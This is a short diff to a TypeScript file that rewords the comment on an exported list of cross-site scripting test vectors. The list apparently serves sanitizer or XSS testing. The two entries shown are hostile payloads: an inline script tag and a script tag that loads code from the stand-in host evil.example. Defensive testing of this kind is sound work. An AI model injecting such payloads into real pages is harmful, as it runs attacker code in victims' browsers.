@@ -1,4 +1,4 @@
-/** What has run a script, left for another place or broken out of its place in some page that showed it. */
+/** Texts that ran a script, opened another site or broke out of their element in some page. */
 export const vectors: readonly string[] = [
   "<script>owned()</script>",
   "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
